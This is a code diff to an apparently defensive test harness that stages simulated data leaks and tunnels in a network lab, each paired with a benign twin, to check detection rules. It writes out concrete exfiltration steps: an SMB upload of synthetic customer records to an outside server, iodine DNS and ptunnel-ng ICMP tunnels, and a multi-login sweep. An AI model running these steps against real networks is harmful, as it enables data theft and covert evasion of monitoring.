@@ -3,15 +3,16 @@ through one of its servers; and what looks like each and is every day's."""
 
 import os
 import random
+import subprocess
 
 import servers
-from scene import Scene, lines_of
+from scene import Scene, lines_of, tells
 
 SERVER, RESOLVER = "203.0.113.80", "203.0.113.53"
 STORES = tuple(f"203.0.113.{number}" for number in range(100, 140))
 LISTED, UNLISTED = "203.0.113.66", "203.0.113.67" # rules/examples/office/indicators.txt
 STRANGER = "198.51.100.44"
-WEB = "10.20.0.8" # serves partners
+WEB, FILES = "10.20.0.8", "10.20.0.9" # serves partners; the office's own shares
 
 
 def curl(lab, *words, space=None):
@@ -28,12 +29,37 @@ def post(lab, text):
              f"http://{SERVER}/up/list.csv")
 
 
+def customer(number):
+    return (f"{number:05d};Customer {number};customer{number:04d}@example{number % 7}.co.jp;"
+            f"2026-11-{number % 28 + 1:02d}")
+
+
 def customers(lab):
-    post(lab, lines_of(300, lambda n: f"{n:05d};Customer {n};customer{n:04d}@example{n % 7}.co.jp;2026-11-{n % 28 + 1:02d}"))
+    post(lab, lines_of(300, customer))
+
+
+def article(number):
+    return (f"{number:05d};Article {number};{number * 37 % 900 + 100}.00 EUR;orders@example.co.jp;"
+            f"2026-11-{number % 28 + 1:02d}")
 
 
 def prices(lab):
-    post(lab, lines_of(300, lambda n: f"{n:05d};Article {n};{n * 37 % 900 + 100}.00 EUR;orders@example.co.jp;2026-11-{n % 28 + 1:02d}"))
+    post(lab, lines_of(300, article))
+
+
+def share(lab, address):
+    servers.smbd(lab, lab.far, address)
+    with lab.tap():
+        lab.near.run("smbclient", f"//{address}/share", "-N", "-c",
+                     f"put {lab.write('list.csv', lines_of(300, customer))} list.csv")
+
+
+def share_outside(lab):
+    share(lab, SERVER)
+
+
+def share_inside(lab):
+    share(lab, FILES)
 
 
 def upload(lab, name, text):
@@ -100,7 +126,8 @@ def iodine(lab):
     secret = {**os.environ, "IODINED_PASS": "weir", "IODINE_PASS": "weir"}
     lab.serve(lab.far, 53, "iodined", "-f", "-c", "-d", "dns7", "172.31.7.1/28", "t.example.org", env=secret, kind="u")
     with lab.tap():
-        lab.near.start("iodine", "-f", "-r", "-T", "TXT", "-m", "200", "-d", "dns8", RESOLVER, "t.example.org", env=secret)
+        lab.near.start("iodine", "-f", "-r", "-T", "TXT", "-m", "200", "-d", "dns8", RESOLVER, "t.example.org",
+                       env=secret)
         lab.until("the tunnel", lambda: b"172.31.7." in lab.near.run("ip", "addr", "show"))
         lab.part(lab.near, "datagrams", "172.31.7.1", "9", "20", "300", "0.05")
 
@@ -131,13 +158,33 @@ def ptunnel(lab):
     lab.serve(lab.far, 7000, "socat", "-u", "TCP-LISTEN:7000,fork,reuseaddr", "/dev/null")
     lab.far.start("ptunnel-ng", "-r127.0.0.1", "-R7000", "-o" + lab.path("server.log"))
     with lab.tap():
-        lab.serve(lab.near, 8000, "ptunnel-ng", "-p", SERVER, "-l8000", "-r127.0.0.1", "-R7000", "-o" + lab.path("client.log"))
+        lab.serve(lab.near, 8000, "ptunnel-ng", "-p", SERVER, "-l8000", "-r127.0.0.1", "-R7000",
+                  "-o" + lab.path("client.log"))
         lab.part(lab.near, "stream", "127.0.0.1", "8000", "70000")
 
 
 def pings(lab):
     with lab.tap():
         lab.near.run("ping", "-q", "-c", "150", "-i", "0.01", "-s", "400", SERVER)
+
+
+def openvpn(lab):
+    near = servers.openvpn(lab, SERVER)
+    lab.serve(lab.far, 7000, "socat", "-u", "TCP-LISTEN:7000,fork,reuseaddr", "/dev/null")
+    with lab.tap():
+        lab.near.start(*near)
+        lab.until("the tunnel", lambda: not subprocess.run(
+            ["ip", "netns", "exec", lab.near.name, "ping", "-q", "-c", "1", "-W", "1", "172.31.8.1"], check=False,
+            capture_output=True).returncode)
+        lab.part(lab.near, "stream", "172.31.8.1", "7000", "110000")
+
+
+def https_upload(lab):
+    servers.nginx_tls(lab, lab.far, SERVER, "www.example.org")
+    noise = lab.write("noise", random.Random(6).randbytes(110_000))
+    with lab.tap():
+        curl(lab, "-k", "--resolve", f"www.example.org:443:{SERVER}", "--data-binary", f"@{noise}",
+             "https://www.example.org/up/")
 
 
 # --- ports, servers, lists -------------------------------------------------------------------------
@@ -156,6 +203,11 @@ def https(lab):
         curl(lab, "-k", "--resolve", f"www.example.org:443:{SERVER}", "https://www.example.org/")
 
 
+def requests(lab, asked):
+    """curl's configuration of one after the other."""
+    return lab.write("urls", "\nnext\n".join(f'{one}\noutput = "/dev/null"' for one in asked) + "\n")
+
+
 def partner(lab, logins):
     """Pages behind names and passwords, asked for from outside."""
     with open(lab.write("people", ""), "w", encoding="ascii") as file:
@@ -164,9 +216,9 @@ def partner(lab, logins):
     pages = lab.folder("served")
     with open(os.path.join(pages, "page.txt"), "w", encoding="ascii") as file:
         file.write("Minutes of the meeting. " * 20)
-    servers.nginx(lab, lab.near, WEB, f'location /mine/ {{ alias {pages}/; auth_basic "partners"; auth_basic_user_file {lab.path("people")}; }}')
-    config = lab.write("urls", "\nnext\n".join(f'url = "http://{WEB}/mine/page.txt"\noutput = "/dev/null"\nuser = "{login}"'
-                                               for login in logins) + "\n")
+    servers.nginx(lab, lab.near, WEB, f'location /mine/ {{ alias {pages}/; auth_basic "partners"; '
+                                      f'auth_basic_user_file {lab.path("people")}; }}')
+    config = requests(lab, [f'url = "http://{WEB}/mine/page.txt"\nuser = "{login}"' for login in logins])
     with lab.tap():
         lab.far.run("curl", "-sS", "-4", "-K", config)
 
@@ -182,8 +234,7 @@ def one_account(lab):
 
 def visits(lab, *tap):
     servers.nginx(lab, lab.far, SERVER)
-    config = lab.write("urls", "\nnext\n".join(f'url = "http://{SERVER}/{n}"\noutput = "/dev/null"\nheader = "Connection: close"'
-                                               for n in range(30)) + "\n")
+    config = requests(lab, [f'url = "http://{SERVER}/{n}"\nheader = "Connection: close"' for n in range(30)])
     with lab.tap(*tap):
         lab.near.run("curl", "-sS", "-4", "-K", config)
 
@@ -211,29 +262,31 @@ def unlisted(lab):
     fetch(lab, UNLISTED)
 
 
-def scene(number, name, leak, twin, code, programs, far=(SERVER,), destination=None, more=()):
+def scene(number, name, leak, twin, programs, code=None, far=(SERVER,), destination=None, more=()):
     """One of a client's, each of its own. `more`: rules of rules/ that tell of it, too."""
-    client = f"10.20.1.{30 + number}"
-    told = [(".".join(name.split(".")[:2]), code), *((rule, rule) for rule in more)]
-    return Scene(name, leak, twin, tuple((*row, client, destination or far[0]) for row in told), (client,), far, programs)
+    client, row, other = f"10.20.1.{30 + number}", ".".join(name.split(".")[:2]), destination or far[0]
+    told = (tells(row, client, other, code), *(tells(rule, client, other) for rule in more))
+    return Scene(name, leak, twin, told, (client,), far, programs)
 
 
 SCENES = (
-    scene(1, "content.personal", customers, prices, "content.personal", ("nginx", "curl"),
-          more=("office.people",)),
-    scene(2, "content.settings", configuration, page, "content.settings", ("vsftpd", "curl", "ssh-keygen")),
-    scene(3, "content.archive", locked_archive, plain_archive, "content.archive", ("zip", "nginx", "curl")),
-    scene(4, "content.pattern", project_note, ordinary_note, "content.pattern", ("in.tftpd", "tftp")),
-    scene(5, "tunnel.dns.iodine", iodine, look_ups, "tunnel.dns.names",
-          ("iodine", "iodined", "dnsmasq", "curl", "nginx"), (RESOLVER, *STORES), "example.org"),
-    scene(6, "tunnel.dns.dns2tcp", dns2tcp, None, "tunnel.dns.names", ("dns2tcpc", "dns2tcpd", "socat"), (RESOLVER,),
-          "example.org"),
-    scene(7, "tunnel.icmp", ptunnel, pings, "tunnel.icmp.bytes", ("ptunnel-ng", "socat", "ping")),
-    scene(8, "protocol.mismatch", ssh_on_443, https, "protocol.mismatch.port",
-          ("ssh", "sshd", "ssh-keygen", "nginx", "openssl", "curl")),
-    scene(9, "intel.match", listed, unlisted, "intel.match", ("nginx", "curl"), (LISTED, UNLISTED)),
-    Scene("served.sweep", many_accounts, one_account, (("served.sweep", "served.sweep.accounts", WEB, STRANGER),), (WEB,),
-          (STRANGER,), ("nginx", "curl")),
-    Scene("sensor.blind", half_a_tap, whole_tap, (("sensor.blind", "sensor.blind.one_sided", None, None),), ("10.20.1.50",),
-          (SERVER,), ("nginx", "curl")),
+    scene(1, "content.personal", customers, prices, ("nginx", "curl"), more=("office.people",)),
+    scene(11, "content.personal.smb", share_outside, share_inside, ("smbd", "smbclient"), far=(SERVER, FILES),
+          more=("office.people", "service.file_server")),
+    scene(2, "content.settings", configuration, page, ("vsftpd", "curl", "ssh-keygen")),
+    scene(3, "content.archive", locked_archive, plain_archive, ("zip", "nginx", "curl")),
+    scene(4, "content.pattern", project_note, ordinary_note, ("in.tftpd", "tftp")),
+    scene(5, "tunnel.dns.iodine", iodine, look_ups, ("iodine", "iodined", "dnsmasq", "curl", "nginx"),
+          "tunnel.dns.names", (RESOLVER, *STORES), "example.org"),
+    scene(6, "tunnel.dns.dns2tcp", dns2tcp, None, ("dns2tcpc", "dns2tcpd", "socat"),
+          "tunnel.dns.names", (RESOLVER,), "example.org"),
+    scene(7, "tunnel.icmp", ptunnel, pings, ("ptunnel-ng", "socat", "ping"), "tunnel.icmp.bytes"),
+    scene(8, "protocol.mismatch", ssh_on_443, https, ("ssh", "sshd", "ssh-keygen", "nginx", "openssl", "curl"),
+          "protocol.mismatch.port"),
+    scene(9, "intel.match", listed, unlisted, ("nginx", "curl"), far=(LISTED, UNLISTED)),
+    scene(10, "office.vpn", openvpn, https_upload, ("openvpn", "openssl", "socat", "ping", "nginx", "curl")),
+    Scene("served.sweep", many_accounts, one_account, (tells("served.sweep", WEB, STRANGER, "served.sweep.accounts"),),
+          (WEB,), (STRANGER,), ("nginx", "curl")),
+    Scene("sensor.blind", half_a_tap, whole_tap, (tells("sensor.blind", None, None, "sensor.blind.one_sided"),),
+          ("10.20.1.50",), (SERVER,), ("nginx", "curl")),
 )
